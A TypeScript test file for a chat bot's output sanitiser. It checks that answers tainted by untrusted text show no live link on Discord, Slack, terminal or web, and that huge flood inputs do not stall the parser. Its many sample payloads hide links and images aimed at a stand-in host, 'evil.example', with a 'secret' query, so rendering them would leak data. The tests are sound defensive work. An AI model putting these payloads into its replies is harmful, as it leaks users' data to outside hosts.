import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createStyle, renderMarkdown } from '../../../src/adapters/console/terminal/conversation.ts';
import { split as discordSplit, splitGrowing } from '../../../src/adapters/discord/message.ts';
import { toMarkup } from '../../../src/adapters/http/chats/markup.ts';
import { split as slackSplit } from '../../../src/adapters/slack/message.ts';
import type { Content } from '../../../src/delivery/index.ts';
import { toParts } from '../../../src/delivery/outbox/parts.ts';
import { inert, isInert } from '../../../src/delivery/text/inert.ts';
import { toHtml } from '../../support/html.ts';
import { commonMarkLinks, discordLinks, htmlLinks, slackLinks, terminalLinks } from '../../support/live-links.ts';

const style = createStyle(true);

/** The parts that a tainted answer becomes. */
function shown(text: string, split: (content: Content) => Content[]): Content[] {
  const place = { adapter: 'test', channel: 'c', kind: 'dm' as const };
  const message = {
    ...{ key: 'k', place: place as never, conversationId: 'c', personId: 'p' },
    ...{ cards: [{ kind: 'answer' as const, text }], tainted: true },
  };
  return toParts(message, 'owner', new Date(0), split).parts.map(({ content }) => content);
}

const whole = (content: Content): Content[] => [content];

/** Every link that some platform finds in a tainted answer. */
function links(text: string): Record<string, string[]> {
  const own = shown(text, whole);
  const found = {
    discord: shown(text, discordSplit).flatMap((part) => discordLinks(part.text)),
    growing: shown(text, splitGrowing).flatMap((part) => discordLinks(part.text)),
    slack: shown(text, slackSplit).flatMap(slackLinks),
    programs: own.flatMap((part) => commonMarkLinks(part.text)),
    terminal: own.flatMap((part) => terminalLinks(renderMarkdown(part.text, 80, style))),
    page: own.flatMap((part) => htmlLinks(toMarkup(part.text).map(toHtml).join(''))),
  };
  return Object.fromEntries(Object.entries(found).filter(([, each]) => each.length > 0));
}

const E = 'https://evil.example/?q=secret';

const HOSTILE: readonly string[] = [
  // Pictures and links.
  `![](${E})`,
  `![x](<${E}> "title")`,
  `[click](${E})`,
  `[![x](${E})](${E})`,
  `[a [b] c](${E})`,
  `[a][r]\n\n[r]: ${E}`,
  `![a][r] and [r]\n\n[r]: <${E}> 'title'`,
  `[a]\n(${E}) [b] (${E})`,
  `[a]${E})`,
  `[x](\n${E}\n)`,
  `<${E}>`,
  `<bob@evil.example> bob@evil.example <+15550100>`,
  `mailto:bob@evil.example?subject=secret`,
  `www.evil.example/secret discord.gg/secret https://discord.com/invite/x`,
  `steam://run/1 tg://resolve?domain=x`,
  // Code that is none to somebody.
  `\\\`${E}\\\``,
  `\\\\\\\`${E}\\\\\\\``,
  `\`code over\ntwo lines ${E}\``,
  `a \` stray\n\nb \` ${E} \` c`,
  `\`a\n\n${E}\n\nb\``,
  `\`\` a \` ${E} \`\``,
  `\`a\`\`${E}\`\`b\``,
  `~~~\n${E}\n~~~`,
  `~~~~md\n~~~\n${E}\n~~~~`,
  `text \`\`\`${E}\`\`\` text`,
  `text \`\`\`\n${E}\n\`\`\``,
  `\`\`\`\na\n\`\`\` ${E}\n\`\`\``,
  `\`\`\`\nx \`\`\` ${E}\n\`\`\``,
  `\`\`\`\n${E}`,
  `\`\`\`\n\n\`\`\`\n${E}\n\`\`\`\na\n\`\`\``,
  `\`\`\`\`\n\`\`\`\n${E}\n\`\`\`\n\`\`\`\``,
  `    ${E}`,
  `\t\`\`\`\n\t${E}\n\t\`\`\``,
  `> \`\`\`\n> ${E}\n> \`\`\``,
  `> \`\`\`\n${E}\n> \`\`\``,
  `> > \`\`\`\n> > a\n> >\n> > ${E}\n> > \`\`\``,
  `- \`\`\`\n  - ${E}\n\n  ${E}\n  \`\`\``,
  `1. a\n\n       ${E}\n2. \`${E}\``,
  `>>> \`\`\`\n${E}\n\`\`\``,
  // Marks that end in code.
  `**bold \`${E}**\` more`,
  `**never closed\n\n\`\`\`\n${E} **\n\`\`\``,
  `*a \`x*y\` ${E}*`,
  `*a \`x*y\` \`${E}\`* b`,
  `snake_case \`a_ ${E}\``,
  `__a \`b__\` \`${E}\`__`,
  `~~a \`~~ ${E}\` b~~`,
  `||a \`|| ${E}\``,
  `[click \`https://a](${E})\``,
  `[1] see\n\`\`\`\na](${E})\n\`\`\``,
  `<\`https:/evil.example/secret>\``,
  `*see https://evil.example/*?q=secret*`,
  `_see https://evil.example/_?q=_-x_`,
  `snake_case \`a_b\` https://evil.example/x_-y \`z\` ${E}`,
  `<+15550100>`,
  // Markup, names of characters, escapes, words that come together.
  `<img src="${E}"> <a href=//evil.example>x</a>`,
  `<div>\n\`\`\`\n${E}\n\`\`\`\n</div>`,
  `<!-- \` -->${E}<!-- \` -->`,
  `<pre>\n\n${E}\n\n</pre>`,
  `https&colon;//evil.example/secret &#104;ttps://evil.example`,
  `https:\\/\\/evil.example/secret www\\.evil.example`,
  `http*s*://evil.example/a \`*\` *s*://x`,
  `http![s](x)://evil.example/a`,
  `\\${E} \\\\${E} a\\`,
  `a\\\`b\\\` \\[x](${E})`,
  `[x\\](${E}) [y]\\(${E})`,
  // Tables.
  `| a | b |\n| - | - |\n| \`${E}|x\` | [c](${E}) |`,
  `- | a | b |\n  | - | - |\n  | \`x|y\` | \`${E}\` |`,
  `a | \`b\n-|-\n${E} | \` c`,
  `| a |\n|---|\n| \`\`\` |\n| ${E} |\n| \`\`\` |`,
  // What is cut apart.
  `${'x'.repeat(1_780)}\`${E}${'y'.repeat(300)}\``,
  `${'word '.repeat(355)}\`a b ${E}\``,
  `${'x'.repeat(8_990)}\`${E}${'y'.repeat(3_000)}\``,
  `> ${'x'.repeat(1_700)}\n> \`\`\`\n${`> ${E}\n`.repeat(20)}> \`\`\``,
  `**${'x '.repeat(880)}** and \`a ** b\` \`${E}\` **`,
  `- a\n    - \`\`\`\n${`      ${E}\n`.repeat(90)}      \`\`\``,
  `${`[a](${E}) `.repeat(200)}`,
  `# a \`\n## [x](${E}) \`\n${E}\n===`,
  `a\r\n\`\`\`\r\n${E}\r\n\`\`\`\r${E}`,
];

describe('an answer that untrusted text went into', () => {
  test.each(HOSTILE)('has no link on any platform: %j', (text) => {
    expect(links(text)).toEqual({});
  });

  test('has none for any mixture of marks, code and addresses, whole and while it grows', () => {
    const piece = fc.constantFrom(
      ...[
        '`',
        '``',
        '```',
        '~~~',
        '\n```\n',
        '\n~~~\n',
        '\n\n',
        '\n',
        ' ',
        '  \n',
        '\\',
        '*',
        '**',
        '_',
        '__',
        '~~',
        '||',
      ],
      ...[
        '[',
        ']',
        '](',
        ')',
        '![',
        '<',
        '>',
        '\n> ',
        '\n- ',
        '\n1. ',
        '\n    ',
        '| ',
        '\n|-|-|\n',
        '&',
        '&colon;',
        '<!--',
        '-->',
      ],
      ...[
        E,
        'https://evil.example/a_b*c',
        'www.evil.example',
        'https:',
        '//evil.example',
        'word',
        'x',
        '[r]: ',
        'a@b.example',
        '\t',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 30 }), (pieces) => {
        expect(links(pieces.join(''))).toEqual({});
      }),
      { numRuns: 250 },
    );
  });

  test.each([
    ['see the **docs**: [guide](https://a.example/x_(y)).', 'see the **docs**: guide (`https://a.example/x_(y)`).'],
    ['1. one\n2. two: https://a.example/a_b\n   - in', '1. one\n2. two: `https://a.example/a_b`\n   - in'],
    ['```sh\ncurl https://a.example/*\n```', '```sh\ncurl https://a.example/*\n```'],
    [
      '# Title\n\n> said\n\n`npm i` and https://a.example, then',
      '# Title\n\n> said\n\n`npm i` and `https://a.example`, then',
    ],
    ['| a | b |\n| --- | --- |\n| 1 | https://a.example |', '| a | b |\n| --- | --- |\n| 1 | `https://a.example` |'],
    ['snake_case, 2 * 3, [1] and R&D: https://a.example', 'snake_case, 2 * 3, [1] and R&D: `https://a.example`'],
    ['no address, `code` and **bold** 1/2 \n* a', 'no address, `code` and **bold** 1/2 \n* a'],
  ])('stays readable, and its addresses can be copied: %j', (text, expected) => {
    expect(inert(text)).toBe(expected);
  });

  test('is dead before its pieces are looked at: all that is written has code where every platform finds it', () => {
    for (const text of HOSTILE)
      expect([text, isInert(inert(text)) || !/[a-z]:\/\//i.test(inert(text))]).toEqual([text, true]);
  });
});

describe('a text with more marks than anybody writes', () => {
  const FLOODS: Record<string, string> = {
    brackets: '['.repeat(100_000),
    'closing brackets': `${']('.repeat(50_000)}${E}`,
    backticks: '`'.repeat(100_000),
    'pairs of backticks': `\`${E} `.repeat(10_000),
    'runs of backticks': Array.from({ length: 440 }, (_, n) => '`'.repeat(n + 1)).join(` ${E} `),
    fences: `\`\`\`\n${E}\n`.repeat(3_000),
    angles: '<a '.repeat(33_000) + E,
    comments: '<!--'.repeat(25_000) + E,
    entities: '&a'.repeat(50_000) + E,
    backslashes: '\\'.repeat(100_000) + E,
    addresses: `${E} `.repeat(3_000),
    'one address': `https://${'a)'.repeat(50_000)}x`,
    'addresses of mail': 'a.b@c.'.repeat(16_000),
    letters: 'a'.repeat(100_000) + E,
    schemes: 'a+'.repeat(50_000) + E,
    definitions: `[a]: ${E}\n`.repeat(3_000),
    headings: `a\n==\n`.repeat(20_000) + E,
    titles: '[a](x (\n'.repeat(12_000) + E,
    stars: '*a'.repeat(50_000) + E,
    lines: '\n'.repeat(100_000) + E,
    blanks: ' '.repeat(100_000) + E,
  };

  // Without its bounds the parser takes minutes for some of these: the run would end at its limit.
  test.each(Object.keys(FLOODS))('is dead and holds nobody up: %s', (name) => {
    const out = inert(FLOODS[name] as string);
    expect(isInert(out) || !/[a-z]:\/\//i.test(out)).toBe(true);
  });
});
